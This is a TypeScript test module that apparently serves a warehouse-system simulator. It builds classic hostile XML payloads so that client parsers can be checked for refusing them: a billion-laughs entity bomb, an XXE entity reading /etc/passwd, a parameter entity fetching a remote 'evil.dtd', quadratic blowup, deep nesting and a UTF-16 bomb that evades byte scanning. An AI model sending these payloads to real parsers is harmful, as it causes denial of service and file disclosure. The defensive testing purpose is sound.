// The documents the WMS simulator sends when its `hostile` knob is on: the classic XML attacks a client parser must
// refuse without expanding, fetching or recursing. Each is small on the wire; the damage would happen in a careless
// parser. Kept here so tests and benchmarks name the same attacks.

export const HOSTILE_KINDS = [
  'entity-bomb',
  'external-entity',
  'parameter-entity',
  'quadratic-blowup',
  'deep-nesting',
  'utf16-entity-bomb',
] as const;
export type HostileKind = (typeof HOSTILE_KINDS)[number];

export interface HostileDocument {
  readonly body: Buffer;
  readonly contentType: string;
}

const DECL = '<?xml version="1.0" encoding="UTF-8"?>\n';
const utf8 = (text: string): HostileDocument => ({ body: Buffer.from(text, 'utf8'), contentType: 'application/xml; charset=utf-8' });

/** Billion laughs: ten levels of ten references, 10^9 "lol"s (about 3 GB) from under 1 KB. */
export function entityBomb(): string {
  let dtd = '  <!ENTITY lol "lol">\n';
  for (let i = 1; i <= 9; i++) dtd += `  <!ENTITY lol${i} "${`&lol${i === 1 ? '' : i - 1};`.repeat(10)}">\n`;
  return `${DECL}<!DOCTYPE SHPMNT05 [\n${dtd}]>\n<SHPMNT05><IDOC BEGIN="1"><E1EDT20 SEGMENT="1"><TKNUM>&lol9;</TKNUM></E1EDT20></IDOC></SHPMNT05>\n`;
}

/** XXE: an external entity that would pull a local file into the answer. */
export function externalEntity(file = 'file:///etc/passwd'): string {
  return `${DECL}<!DOCTYPE SHPMNT05 [\n  <!ENTITY xxe SYSTEM "${file}">\n]>\n<SHPMNT05><IDOC BEGIN="1"><E1EDT20 SEGMENT="1"><TKNUM>&xxe;</TKNUM></E1EDT20></IDOC></SHPMNT05>\n`;
}

/** A parameter entity that would fetch a remote DTD (out-of-band XXE). */
export function parameterEntity(url = 'http://127.0.0.1:9/evil.dtd'): string {
  return `${DECL}<!DOCTYPE SHPMNT05 [\n  <!ENTITY % remote SYSTEM "${url}">\n  %remote;\n]>\n<SHPMNT05/>\n`;
}

/** Quadratic blowup: one 20 KB entity referenced 20,000 times (400 MB expanded) without nesting. */
export function quadraticBlowup(entityChars = 20_000, references = 20_000): string {
  return `${DECL}<!DOCTYPE SHPMNT05 [<!ENTITY a "${'a'.repeat(entityChars)}">]>\n<SHPMNT05><IDOC BEGIN="1">${'&a;'.repeat(references)}</IDOC></SHPMNT05>\n`;
}

/** Elements nested `depth` deep: no DTD at all, only a stack-exhausting shape. */
export function deepNesting(depth = 10_000): string {
  return `${DECL}<SHPMNT05>${'<E1EDT20>'.repeat(depth)}${'</E1EDT20>'.repeat(depth)}</SHPMNT05>\n`;
}

/** The billion laughs in UTF-16LE with a byte order mark: invisible to a parser that scans bytes for "<!DOCTYPE". */
export function utf16EntityBomb(): Buffer {
  const text = entityBomb().replace('encoding="UTF-8"', 'encoding="UTF-16"');
  return Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
}

export function hostileDocument(kind: HostileKind): HostileDocument {
  switch (kind) {
    case 'entity-bomb':
      return utf8(entityBomb());
    case 'external-entity':
      return utf8(externalEntity());
    case 'parameter-entity':
      return utf8(parameterEntity());
    case 'quadratic-blowup':
      return utf8(quadraticBlowup());
    case 'deep-nesting':
      return utf8(deepNesting());
    case 'utf16-entity-bomb':
      return { body: utf16EntityBomb(), contentType: 'application/xml; charset=utf-16' };
  }
}
